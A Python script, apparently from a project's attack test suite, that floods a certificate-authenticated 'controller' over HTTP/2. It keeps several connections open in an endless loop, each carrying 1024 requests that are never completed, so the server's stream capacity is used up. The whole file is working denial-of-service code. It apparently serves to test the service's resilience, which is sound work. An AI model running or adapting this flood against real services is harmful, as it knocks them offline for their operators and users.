# SPDX-License-Identifier: GPL-3.0-or-later
"""Process that begins calls of a controller without a pause and never finishes them, until it is terminated."""

from __future__ import annotations

import ssl
import sys
from collections import deque
from contextlib import suppress
from pathlib import Path

from tests.attack import http2

_CONNECTIONS = 8  # open at a time
_CALLS = 1024  # of one connection: the controller takes no more of it


def main() -> None:
    """Flood a controller. Arguments: its address, a method, and the folder of a client certificate."""
    address, path, folder = sys.argv[1:]
    files = {name: str(Path(folder) / name) for name in ("ca.crt", "client.crt", "client.key")}
    tls = ssl.create_default_context(cafile=files["ca.crt"])
    tls.load_cert_chain(files["client.crt"], files["client.key"])
    tls.set_alpn_protocols(["h2"])
    headers = http2.request_headers(path)
    calls = b"".join(http2.unfinished_call(number, headers) for number in range(1, 2 * _CALLS, 2))
    connections: deque[http2.Connection] = deque()
    while True:
        with suppress(OSError):
            connection = http2.Connection(address, tls=tls)
            connections.append(connection)
            connection.send(calls)
        if len(connections) > _CONNECTIONS:
            connections.popleft().close()


if __name__ == "__main__":
    main()
